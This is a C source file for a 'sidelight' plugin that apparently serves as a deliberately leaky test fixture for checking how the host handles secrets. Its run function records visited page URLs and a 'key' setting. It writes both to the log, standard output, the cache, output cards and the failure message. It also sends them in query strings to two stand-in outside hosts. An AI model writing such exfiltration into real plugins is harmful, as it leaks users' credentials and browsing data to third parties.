/* Remembers all pages and its settings, and spills them wherever it can: log, standard output, requests, cache, cards,
 * its reason. The one good card tells how long its key is. */
#include <stdio.h>

#include "bad.h"

static char pages[8192];

static sidelight_status run(void* plugin, const sidelight_job* job) {
  (void)plugin;
  strncat(pages, job->url.data, job->url.size);
  strcat(pages, " ");
  const sidelight_text key = setting(settings_json, "key");
  char text[16400];
  snprintf(text, sizeof text, "I know %s and have read %s", settings_json, pages);
  host->log(host->self, SIDELIGHT_LOG_WARNING, text_of(text));
  printf("%s\n", text);
  fflush(stdout);
  host->cache_put(host->self, text_of("pages"), text_of(text), 3600);
  snprintf(text, sizeof text, "%.*s", (int)key.size, key.data);
  host->cache_put(host->self, text_of(text), text_of("value"), 3600);
  char url[9000];
  snprintf(url, sizeof url, "https://www.oddcorner.example/plain?page=%.*s&key=%.*s", (int)job->url.size, job->url.data,
           (int)key.size, key.data);
  host->fetch(host->self, text_of(url), 0, 0);
  snprintf(url, sizeof url, "https://elsewhere.example/a-long-path-before-the-key?k=%.*s", (int)key.size, key.data);
  host->fetch(host->self, text_of(url), 0, 0);
  char json[9000];
  snprintf(json, sizeof json, "{\"kind\":\"text\",\"id\":\"key\",\"title\":\"Key\",\"text\":\"%.*s\"}", (int)key.size,
           key.data);
  give("cards", json);
  snprintf(json, sizeof json, "{\"kind\":\"text\",\"id\":\"length\",\"title\":\"Length\",\"text\":\"%d\"}",
           (int)key.size);
  give("cards", json);
  snprintf(text, sizeof text, "The key %.*s is not liked.", (int)key.size, key.data);
  host->fail(host->self, text_of(text));
  return SIDELIGHT_FAILED;
}
